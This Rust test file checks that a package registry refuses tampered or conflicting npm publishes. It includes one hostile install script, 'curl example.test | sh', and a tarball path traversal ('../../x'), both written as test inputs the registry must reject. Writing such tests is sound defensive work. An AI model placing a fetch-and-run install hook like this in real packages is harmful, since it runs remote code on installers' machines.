//! Publishing with every client, and what is refused: other bytes, public versions, learned controls, old
//! revisions, documents that say something else than their tarball.

use crate::npm_world::{World, each_client, publish_with};
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Value, json};
use sha2::{Digest as _, Sha512};
use weir_testkit::package::integrity;
use weir_testkit::{Answer, Archive, NpmPackage, Tool};

#[tokio::test(flavor = "multi_thread")]
async fn every_client_publishes() {
    let world = &World::start().await;
    each_client(async |client| {
        let tool = client.tool().name();
        world.set_up(&client);
        world.upstream.publish(&NpmPackage::new("left-pad", "1.3.0"));
        let plain = NpmPackage::new(&format!("plain-{tool}"), "1.0.0").file("readme.md", "# plain\n");
        let plain = plain.dependency("left-pad", "^1.0.0").script("test", "true").bin("plain", "cli.js");
        let scoped = NpmPackage::new(&format!("scoped-{tool}"), "2.0.0-rc.1").scope("acme");
        for (package, arguments) in [(&plain, &[][..]), (&scoped, &["--tag", "next"][..])] {
            let name = package.full_name();
            publish_with(&client, package, arguments).await.assert_ok();
            let document = world.document(&name).await;
            let entry = &document["versions"][package.version()];
            let file = world.get(&package.tarball_path(), &[]).await;
            let dist = &entry["dist"];
            assert_eq!(dist["integrity"], integrity(&file.assert_status(200).body), "{tool}: {dist}");
            let address = format!("{}{}", world.endpoint, package.tarball_path());
            assert_eq!(dist["tarball"], address.as_str(), "{tool}");
            assert_eq!(world.held("main", package).await, [package.version()], "{tool}");
        }
        let document = world.document(&plain.full_name()).await;
        assert_eq!(document["dist-tags"], json!({ "latest": "1.0.0" }), "{tool}");
        assert_eq!(document["versions"]["1.0.0"]["bin"]["plain"], "cli.js", "{tool}");
        assert_eq!(document["versions"]["1.0.0"]["dependencies"]["left-pad"], "^1.0.0", "{tool}");
        let readme = document["readme"].as_str().unwrap_or_default();
        assert!(readme.contains("# plain"), "{tool}: the readme is {readme:?}");
        let document = world.document(&scoped.full_name()).await;
        assert_eq!(document["dist-tags"]["next"], "2.0.0-rc.1", "{tool}");
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn other_bytes_are_refused_and_every_client_prints_why() {
    let world = &World::start().await;
    each_client(async |client| {
        let tool = client.tool();
        world.set_up(&client);
        let package = NpmPackage::new(&format!("twice-{}", tool.name()), "1.0.0").scope("acme");
        publish_with(&client, &package, &[]).await.assert_ok();
        let before = world.document(&package.full_name()).await;
        let refused = publish_with(&client, &package.clone().file("more.js", "other"), &[]).await;
        refused.assert_fails();
        match tool {
            // These look first and have words of their own.
            Tool::Npm10 | Tool::Npm11 => refused.assert_says("cannot publish over"),
            _ => refused.assert_says("publish another version"),
        };
        assert_eq!(world.document(&package.full_name()).await, before);
    })
    .await;
}

#[tokio::test]
async fn the_same_bytes_again_are_no_change_and_others_a_conflict() {
    let world = World::start().await;
    let package = NpmPackage::new("widget", "1.0.0").scope("acme");
    let first = world.publish(&package).await;
    assert_eq!(first.assert_status(201).json()["ok"], true);
    let before = world.document("@acme/widget").await;
    world.publish(&package).await.assert_status(200);
    assert_eq!(world.document("@acme/widget").await, before, "nothing changes");
    let other = package.clone().file("more.js", "other");
    refused(&world.publish(&other).await, 409, &["@acme/widget@1.0.0", "'main'", "other bytes", "delete"]);
    let set_status = async |status: &str| {
        let body = json!({ "versions": ["1.0.0"], "targetStatus": status }).to_string();
        let path = "/v1/package/versions/update_status?domain=local&repository=main&format=npm";
        let path = format!("{path}&namespace=acme&package=widget");
        world.weir.api("POST", &path, &body).await.assert_status(200);
    };
    set_status("Archived").await;
    refused(&world.publish(&package).await, 409, &["status Archived"]);
    refused(&world.publish(&other).await, 409, &["already exists in repository 'main'"]);
    set_status("Unlisted").await;
    world.publish(&package).await.assert_status(200);
    refused(&world.publish(&other).await, 409, &["other bytes"]);
}

#[tokio::test]
async fn a_public_version_cannot_be_published_over() {
    let world = World::start().await;
    let public = NpmPackage::new("left-pad", "1.3.0");
    world.upstream.publish(&public);
    let own = public.clone().file("evil.js", "evil");
    refused(&world.publish(&own).await, 409, &["left-pad@1.3.0", "public:npmjs"]);
    // A publish was refused, so the name is not learned yet; fetching makes it a public one.
    world.get(&public.tarball_path(), &[]).await.assert_status(200);
    let next = NpmPackage::new("left-pad", "99.0.0");
    refused(
        &world.publish(&next).await,
        403,
        &["publish=BLOCK", "'main'", "put-package-origin-configuration"],
    );
    let path = "/v1/package?domain=local&repository=main&format=npm&package=left-pad";
    let allow = r#"{"restrictions":{"publish":"ALLOW","upstream":"ALLOW"}}"#;
    world.weir.api("POST", path, allow).await.assert_status(200);
    world.publish(&next).await.assert_status(201);
    let versions = world.document("left-pad").await["versions"].clone();
    assert!(versions["1.3.0"].is_object() && versions["99.0.0"].is_object(), "what was held stays readable");
}

#[tokio::test]
async fn npm_prints_why_a_public_name_is_refused() {
    let Some(client) = weir_testkit::Client::npm11() else { return };
    let world = World::start().await;
    world.set_up(&client);
    let public = NpmPackage::new("left-pad", "1.3.0");
    world.upstream.publish(&public);
    world.get(&public.tarball_path(), &[]).await.assert_status(200);
    let refused = publish_with(&client, &NpmPackage::new("left-pad", "2.0.0"), &[]).await;
    refused.assert_fails().assert_says("403").assert_says("publish=BLOCK");
}

#[tokio::test]
async fn an_unreachable_registry_does_not_block_a_publish() {
    let world = World::start().await;
    world.upstream.stop().await;
    world.publish(&NpmPackage::new("widget", "1.0.0")).await.assert_status(201);
    world.get("widget", &[]).await.assert_status(200);
}

#[tokio::test(flavor = "multi_thread")]
async fn what_clients_do_to_a_manifest_is_no_disagreement() {
    let world = &World::start().await;
    // Berry installs a project before it publishes from it.
    for (name, version) in
        [("left-pad", "1.3.0"), ("right-pad", "2.0.1"), ("react", "18.0.0"), ("tap", "1.0.0")]
    {
        world.upstream.publish(&NpmPackage::new(name, version));
    }
    each_client(async |client| {
        let tool = client.tool().name();
        world.set_up(&client);
        // No entry in scripts: npm adds `node-gyp rebuild` for what has a binding.gyp.
        let gyp = NpmPackage::new(&format!("gyp-{tool}"), "1.0.0").file("binding.gyp", "{'targets': []}");
        let scripts = NpmPackage::new(&format!("scripts-{tool}"), "1.0.0")
            .script("postinstall", "true")
            .script("preinstall", "true")
            .field("engines", json!({ "node": ">=6" }))
            .field("os", json!(["linux", "darwin"]))
            .field("cpu", json!(["x64", "arm64"]));
        let bin = NpmPackage::new(&format!("bin-{tool}"), "1.0.0")
            .file("cli.js", "#!/usr/bin/env node\n")
            .field("bin", json!("./cli.js"));
        let odd = NpmPackage::new(&format!("odd-{tool}"), "1.0.0")
            .dependency("left-pad", "^1.0.0")
            .optional_dependency("right-pad", "~2.0.0")
            .peer_dependency("react", ">=16")
            .dev_dependency("tap", "*")
            .field("peerDependenciesMeta", json!({ "react": { "optional": true } }))
            .field("publishConfig", json!({ "access": "public" }))
            .field("repository", json!("github:acme/odd"))
            .field("author", json!("Ada <ada@example.test>"))
            .field("keywords", json!(["a", "b"]))
            .field("files", json!(["index.js"]))
            .file("index.js", "exports.odd = 1;\n");
        for package in [&gyp, &scripts, &bin, &odd] {
            publish_with(&client, package, &[]).await.assert_ok();
            let document = world.document(&package.full_name()).await;
            assert!(document["versions"]["1.0.0"].is_object(), "{tool}: {document}");
        }
        let bin = world.document(&bin.full_name()).await;
        let command = &bin["versions"]["1.0.0"]["bin"];
        assert!(command.to_string().contains("cli.js"), "{tool}: {command}");
    })
    .await;
}

#[tokio::test]
async fn a_document_that_says_something_else_than_its_tarball_is_refused() {
    let world = World::start().await;
    let honest = NpmPackage::new("widget", "1.0.0").dependency("left-pad", "^1");
    let edit = |change: &dyn Fn(&mut Value)| {
        let mut document = honest.publish_document("http://publisher.example.test");
        change(&mut document);
        document.to_string()
    };
    let put = async |document: String| world.send("PUT", "widget", &[], document).await;
    let manifest = |field: &'static str, value: Value| {
        edit(&move |document: &mut Value| document["versions"]["1.0.0"][field] = value.clone())
    };
    for (field, value) in [
        ("dependencies", json!({ "left-pad": "^2" })),
        ("dependencies", json!({})),
        ("optionalDependencies", json!({ "more": "1" })),
        ("scripts", json!({ "install": "curl example.test | sh" })),
        ("bin", json!({ "widget": "other.js" })),
        ("engines", json!({ "node": "1" })),
        ("os", json!(["plan9"])),
        ("cpu", json!(["vax"])),
    ] {
        refused(&put(manifest(field, value)).await, 400, &[field]);
    }
    let wrong =
        edit(&|document| document["versions"]["1.0.0"]["dist"]["integrity"] = json!(integrity(b"other")));
    refused(&put(wrong).await, 400, &["dist"]);
    let renamed = edit(&|document| document["name"] = json!("gadget"));
    refused(&put(renamed).await, 400, &["gadget", "widget"]);
    let cut = edit(&|document| {
        let data = &mut document["_attachments"]["widget-1.0.0.tgz"]["data"];
        *data = json!(&data.as_str().unwrap_or_default()[..100]);
    });
    put(cut).await.assert_status(400);
    let two = edit(&|document| {
        let other = document["_attachments"]["widget-1.0.0.tgz"].clone();
        document["_attachments"]["other-1.0.0.tgz"] = other;
    });
    refused(&put(two).await, 400, &["one tarball"]);
    put("{".to_owned()).await.assert_status(400);
    for (what, archive) in [
        ("another name", tarball_of(json!({ "name": "gadget", "version": "1.0.0" }), &[])),
        ("no manifest", Archive::new().file("package/index.js", "1")),
        ("a path upwards", tarball_of(honest.manifest(), &[("package/../../x", "1")])),
        ("a path twice", tarball_of(honest.manifest(), &[("package/a", "1"), ("package/a", "2")])),
    ] {
        let document = honest.clone().archive(archive).publish_document("http://publisher.example.test");
        let answer = put(document.to_string()).await;
        assert_eq!(answer.status, 400, "{what}: {}", answer.text());
    }
    world.get("widget", &[]).await.assert_status(404);
    put(edit(&|_| ())).await.assert_status(201);
}

fn tarball_of(manifest: Value, files: &[(&str, &str)]) -> Archive {
    let archive = Archive::new().file("package/package.json", manifest.to_string());
    files.iter().fold(archive, |archive, (path, text)| archive.file(path, *text))
}

#[tokio::test]
async fn what_the_publisher_says_of_addresses_and_signatures_is_not_repeated() {
    let world = World::start().await;
    let package = NpmPackage::new("widget", "1.0.0")
        .dist_field("signatures", json!([{ "keyid": "SHA256:other", "sig": "x" }]))
        .dist_field("attestations", json!({ "url": "http://evil.example.test/a" }));
    world.publish(&package).await.assert_status(201);
    let text = world.get("widget", &[]).await.text();
    assert!(!text.contains("example.test"), "{text}");
    let dist = world.document("widget").await["versions"]["1.0.0"]["dist"].clone();
    assert!(dist.get("signatures").is_none() && dist.get("attestations").is_none(), "{dist}");
}

#[tokio::test]
async fn a_provenance_bundle_is_kept_and_served() {
    let world = World::start().await;
    let package = NpmPackage::new("widget", "1.0.0").scope("acme");
    let digest = hex::encode(Sha512::digest(package.tarball()));
    let statement = json!({
        "_type": "https://in-toto.io/Statement/v1",
        "predicateType": "https://slsa.dev/provenance/v1",
        "subject": [{ "name": "pkg:npm/%40acme/widget@1.0.0", "digest": { "sha512": digest } }],
    });
    let bundle = json!({
        "mediaType": "application/vnd.dev.sigstore.bundle.v0.3+json",
        "dsseEnvelope": { "payload": STANDARD.encode(statement.to_string()), "signatures": [{ "sig": "MEUC" }] },
        "x-kept": 1.50,
    })
    .to_string();
    let with = |bundle: &str| {
        let mut document = package.publish_document("http://publisher.example.test");
        document["_attachments"]["@acme/widget-1.0.0.sigstore"] = json!({
            "content_type": "application/vnd.dev.sigstore.bundle.v0.3+json",
            "data": bundle,
            "length": bundle.len(),
        });
        document.to_string()
    };
    let other = bundle.replace(
        &STANDARD.encode(statement.to_string()),
        &STANDARD.encode(r#"{"predicateType":"x","subject":[]}"#),
    );
    refused(&world.send("PUT", "@acme%2fwidget", &[], with(&other)).await, 400, &["provenance"]);
    world.send("PUT", "@acme%2fwidget", &[], with(&bundle)).await.assert_status(201);

    let dist = world.document("@acme/widget").await["versions"]["1.0.0"]["dist"].clone();
    assert_eq!(dist["attestations"]["provenance"]["predicateType"], "https://slsa.dev/provenance/v1");
    let url = dist["attestations"]["url"].as_str().expect("the bundle has an address");
    assert!(url.starts_with(&world.endpoint), "{url}");
    let served = world.weir.get(url, &world.token).await.assert_status(200).json();
    let expected: Value = serde_json::from_str(&bundle).expect("it is JSON");
    assert_eq!(served["attestations"][0]["bundle"], expected);
    assert_eq!(served["attestations"][0]["predicateType"], "https://slsa.dev/provenance/v1");
    let path = "-/npm/v1/attestations/@acme%2fwidget@1.0.0";
    assert_eq!(world.get(path, &[]).await.assert_status(200).json(), served);
    world.get("-/npm/v1/attestations/@acme%2fwidget@9.9.9", &[]).await.assert_status(404);
}

#[tokio::test]
async fn the_rights_to_read_and_to_publish_are_two() {
    let world = World::start().await;
    let token = async |name: &str, policy: &str| {
        world.weir.cli(&["user", "create", name, "--policy", policy]).await.assert_ok();
        let made = world.weir.cli(&["token", "create", "--user", name]).await;
        made.assert_ok().stdout.trim().to_owned()
    };
    let (reader, publisher) = (token("reader", "read").await, token("publisher", "publish").await);
    let package = NpmPackage::new("widget", "1.0.0");
    let document = package.publish_document("http://publisher.example.test").to_string();
    let path = "/npm/d/local-000000000000/main/widget";
    let put = async |token: &str| {
        let bearer = format!("Bearer {token}");
        world.weir.send("PUT", path, &[("authorization", &bearer)], document.as_bytes()).await
    };
    refused(&put(&reader).await, 403, &["PublishPackageVersion"]);
    put(&publisher).await.assert_status(201);
    world.weir.get(path, &reader).await.assert_status(200);
}

#[tokio::test]
async fn weir_publishes_a_folder_and_again_only_what_is_missing() {
    let world = World::start().await;
    let folder = tempfile::tempdir().expect("a temporary folder can be made");
    let packages = [
        NpmPackage::new("widget", "1.0.0").scope("acme"),
        NpmPackage::new("widget", "1.10.0").scope("acme"),
        NpmPackage::new("widget", "1.9.0").scope("acme").dependency("left-pad", "^1"),
        NpmPackage::new("gadget", "0.1.0").bin("gadget", "cli.js"),
    ];
    for (index, package) in packages.iter().enumerate() {
        let path = folder.path().join(format!("below-{}/{index}.tgz", index % 2));
        fs_err::create_dir_all(path.parent().expect("it has one")).expect("it can be written");
        fs_err::write(path, package.tarball()).expect("it can be written");
    }
    let place = folder.path().to_str().expect("it is UTF-8");
    let run = async || world.weir.cli(&["publish", place, "--json"]).await;
    let first = run().await;
    assert_eq!(first.assert_ok().json(), json!({ "published": 4, "present": 0, "failed": [] }));
    for package in &packages {
        let file = world.get(&package.tarball_path(), &[]).await;
        assert!(file.assert_status(200).body == package.tarball(), "{}", package.full_name());
    }
    let document = world.document("@acme/widget").await;
    assert_eq!(document["dist-tags"]["latest"], "1.10.0");
    assert_eq!(document["versions"]["1.9.0"]["dependencies"]["left-pad"], "^1");

    let another = folder.path().join("another.tgz");
    fs_err::write(&another, NpmPackage::new("gadget", "0.2.0").tarball()).expect("it can be written");
    let second = run().await;
    assert_eq!(second.assert_ok().json(), json!({ "published": 1, "present": 4, "failed": [] }));
    fs_err::write(&another, NpmPackage::new("gadget", "0.2.0").file("x", "y").tarball())
        .expect("it can be written");
    fs_err::write(folder.path().join("broken.tgz"), "no archive").expect("it can be written");
    let third = run().await;
    assert_eq!(third.assert_fails().json()["failed"].as_array().map(Vec::len), Some(2));
    third.assert_says("other bytes").assert_says("broken.tgz");
}

/// A refusal whose reason stands where npm prints it, with these words.
#[track_caller]
fn refused(answer: &Answer, status: u16, words: &[&str]) {
    let error = answer.assert_status(status).json()["error"].as_str().unwrap_or_default().to_owned();
    for word in words {
        assert!(error.contains(word), "no {word:?} in: {error}");
    }
}
